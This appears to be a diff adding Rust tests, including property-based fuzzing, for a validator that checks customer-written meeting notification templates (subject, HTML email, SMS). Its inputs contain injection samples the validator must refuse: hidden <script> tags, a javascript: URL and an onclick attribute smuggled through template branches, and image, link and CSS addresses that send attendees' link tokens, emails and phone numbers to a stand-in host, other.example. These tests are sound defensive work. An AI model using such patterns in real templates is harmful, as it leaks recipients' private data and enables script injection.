@@ -1,0 +1,250 @@
+//! What no sample meeting shows: a text is read in every way that it can come out.
+
+use proptest::prelude::*;
+
+use super::*;
+
+fn refusal(part: Part, text: &str) -> String {
+    match check(part, text) {
+        Ok(()) => panic!("accepted: {text}"),
+        Err(error) => error.to_string(),
+    }
+}
+
+#[test]
+fn a_rare_branch_is_held_against_the_rules() {
+    for (part, text, expected) in [
+        (
+            Part::EmailBody,
+            "<p>a</p>\n{% if meeting.title == 'rare' %}<script>x</script>{% endif %}",
+            "line 2: the tag <script> cannot be used",
+        ),
+        (
+            Part::EmailBody,
+            "a{% if meeting.title == 'x' %}b{% elif meeting.title == 'y' %}<p>{% else %}c{% endif %}",
+            "is never closed",
+        ),
+        (
+            Part::EmailBody,
+            "{% if meeting.title == 'x' %}<p>{% endif %}a{% if meeting.title == 'y' %}</p>{% endif %}",
+            "</p> closes nothing",
+        ),
+        (
+            Part::EmailBody,
+            "<a href=\"{% if meeting.title == 'x' %}java{% else %}https://x.example/{% endif %}script:x\">a</a>",
+            "is not an absolute address",
+        ),
+        (
+            Part::EmailBody,
+            "<a href=\"{% if meeting.title == 'x' %}https://x.example\" onclick=\"{% endif %}\">a</a>",
+            "the attribute onclick",
+        ),
+        (
+            Part::Subject,
+            "{% if meeting.title != 'rare' %}x{% endif %}",
+            "comes out empty",
+        ),
+        (
+            Part::Sms,
+            "{% if meeting.title == 'rare' %} {% else %}x{% endif %}",
+            "comes out empty",
+        ),
+        (
+            Part::Sms,
+            "Reply {% if meeting.title == 'a very rare title' %}STOP{% endif %} to us",
+            "asks to reply STOP",
+        ),
+        (
+            Part::Sms,
+            &format!(
+                "a{{% if meeting.title == 'rare' %}}{}{{% endif %}}",
+                "x".repeat(900)
+            ),
+            "the settings allow 4",
+        ),
+        (Part::Sms, "{{ link|upper }}", "leads nowhere"),
+    ] {
+        let refused = refusal(part, text);
+        assert!(refused.contains(expected), "{text}: {refused}");
+    }
+    let many: String = (0..20)
+        .map(|i| format!("{{% if meeting.title == '{i}' %}}a{{% endif %}}b"))
+        .collect();
+    assert!(refusal(Part::EmailBody, &many).contains("too many {% if %}"));
+    let same = "{% if meeting.location %}a{% endif %}b".repeat(40);
+    assert_eq!(
+        check(Part::EmailBody, &same),
+        Ok(()),
+        "one condition, two paths"
+    );
+    let split = "{% if meeting.location %}<p>{% endif %}a{% if meeting.location %}</p>{% endif %}";
+    assert_eq!(check(Part::EmailBody, split), Ok(()));
+}
+
+#[test]
+fn what_is_the_customers_alone_goes_to_nobody_else() {
+    for text in [
+        "<img src='https://other.example/p.png?u={{ link }}&e={{ attendee.email }}'>",
+        "<img src=\"{{ link }}\">",
+        "<img src=\"https://other.example/{{ meeting.date }}\">",
+        "<a href=\"https://other.example/?u={{ link }}\">a</a>",
+        "<a href=\"https://other.example/?e={{ attendee.email|default('x') }}\">a</a>",
+        "<a href=\"https://other.example/?a={{ meeting.location }}\">a</a>",
+        "<a href=\"https://{{ attendee.name }}.example/\">a</a>",
+        "<a href=\"mailto:x@example.com?body={{ link }}\">a</a>",
+        "<a href=\"{{ meeting.video_url|default('https://other.example/?') }}{{ link }}\">a</a>",
+        "{% if meeting.title == 'x' %}<a href=\"https://other.example/?{{ link }}\">a</a>{% endif %}b",
+        "<p>https://other.example/?u={{ attendee.phone }}</p>",
+        "<p style=\"background:url(https://other.example/?{{ link }})\">a</p>",
+    ] {
+        assert!(check(Part::EmailBody, text).is_err(), "{text}");
+    }
+    let image = "<p>\n<img src='https://other.example/p.png?u={{ link }}'></p>";
+    assert!(refusal(Part::EmailBody, image).starts_with("line 2: the address of an image"));
+    assert!(refusal(Part::Sms, "https://other.example/?u={{ link }}").contains("somebody else's"));
+    for text in [
+        "<a href=\"{{ link }}\">a</a>",
+        "<a href=\"{{ link }}&action=accept\">a</a>",
+        "<a href=\"{{ meeting.video_url|default(link) }}\">a</a>",
+        "<a href=\"{{ meeting.map_url }}\">{{ meeting.location }}</a>",
+        "<a href=\"mailto:{{ organizer.email }}\">{{ attendee.email }}</a>",
+        "<a href=\"https://example.com/faq?d={{ meeting.date }}\">a</a>",
+        "<p>See https://example.com/faq or {{ link }}</p>",
+        "<img src=\"https://example.com/logo.png\" alt=\"{{ business.name }}\">",
+    ] {
+        assert_eq!(check(Part::EmailBody, text), Ok(()), "{text}");
+    }
+}
+
+/// A piece of a text, of what people write and of what they should not.
+fn piece() -> impl Strategy<Value = String> {
+    let literal = prop::sample::select(vec![
+        "a",
+        " ",
+        "\n",
+        "<p>",
+        "</p>",
+        "<b>x</b>",
+        "<script>",
+        "<a href=\"",
+        "\">",
+        "</a>",
+        "<img src=\"",
+        "https://x.example/?u=",
+        "https:",
+        "mailto:",
+        "javascript:",
+        "é",
+        "“x”",
+        "👍",
+        "Reply ",
+        "STOP",
+        "&amp;",
+        "<",
+        "<a href=\"{{ link }}\">l</a>",
+        "<br>",
+        "'",
+        "\u{202e}",
+    ])
+    .prop_map(str::to_owned);
+    let name = || {
+        prop::sample::select(vec![
+            "link",
+            "attendee.name",
+            "attendee.email",
+            "meeting.title",
+            "meeting.location",
+            "meeting.description",
+            "meeting.map_url",
+            "meeting.video_url",
+            "before.date",
+            "organizer.name",
+            "organizer.email",
+            "business.name",
+            "meeting.changes",
+            "'x'",
+            "''",
+        ])
+    };
+    let filter = prop::sample::select(vec![
+        "",
+        "|upper",
+        "|title",
+        "|trim",
+        "|default('y')",
+        "|default(meeting.location)",
+    ]);
+    let value = (name(), filter).prop_map(|(name, filter)| format!("{{{{ {name}{filter} }}}}"));
+    let leaf = prop_oneof![3 => literal, 2 => value];
+    leaf.prop_recursive(3, 12, 3, move |inner| {
+        let some = || prop::collection::vec(inner.clone(), 0..3).prop_map(|all| all.concat());
+        let condition = (name(), prop::sample::select(vec!["", "not ", "1 and "]))
+            .prop_map(|(name, before)| format!("{before}{name}"));
+        (condition, some(), some()).prop_map(|(condition, a, b)| {
+            format!("{{% if {condition} %}}{a}{{% else %}}{b}{{% endif %}}")
+        })
+    })
+}
+
+/// How often; more with `USHER_TEXT_CASES`.
+#[allow(
+    clippy::disallowed_methods,
+    reason = "how long a test runs is no decision"
+)]
+fn cases() -> u32 {
+    let asked = std::env::var("USHER_TEXT_CASES")
+        .ok()
+        .and_then(|cases| cases.parse().ok());
+    asked.unwrap_or(256)
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: cases(), failure_persistence: None, ..ProptestConfig::default() })]
+
+    #[test]
+    fn what_can_be_saved_can_be_sent(
+        pieces in prop::collection::vec(piece(), 1..6),
+        meeting in super::properties::any_meeting(),
+        bare in any::<bool>(),
+    ) {
+        let text = pieces.concat();
+        let mut meeting = meeting;
+        if bare {
+            meeting.organizer = None;
+            meeting.details.location = Default::default();
+            meeting.description = Default::default();
+            meeting.attendees[0].email = None;
+        }
+        for part in [Part::Subject, Part::EmailBody, Part::Sms] {
+            if check(part, &text).is_err() {
+                continue;
+            }
+            let mut config = NotificationConfig::built_in(NotificationType::Confirmation);
+            match part {
+                Part::Subject => config.subject = Some(text.clone()),
+                Part::EmailBody => config.email_body = Some(text.clone()),
+                Part::Sms => config.sms_text = Some(text.clone()),
+            }
+            let settings = sample::settings();
+            let made = with_scene(&meeting, &settings, &config, BookingStatus::Booked, message);
+            match made.email {
+                Ok(email) => {
+                    prop_assert!(!email.subject.chars().any(char::is_control));
+                    prop_assert!(!email.html.to_lowercase().contains("<script"));
+                    let token = "AQEBAQEBAQEBAQEBAQEBAQ";
+                    for at in email.html.split("x.example/?u=").skip(1) {
+                        let address = at.split(['"', '<', ' ', '\n']).next().unwrap_or_default();
+                        prop_assert!(!address.contains(token), "{}", text);
+                    }
+                }
+                Err(RenderError::EmailTooLarge { .. }) => {}
+                Err(error) => prop_assert!(false, "{:?} {}: {}", part, text, error),
+            }
+            match made.sms {
+                Ok(sms) => prop_assert!(sms.segments.count <= 4 && sms.text.len() <= 1_600),
+                Err(RenderError::SmsTooLong { .. }) => {}
+                Err(error) => prop_assert!(false, "{:?} {}: {}", part, text, error),
+            }
+        }
+    }
+}
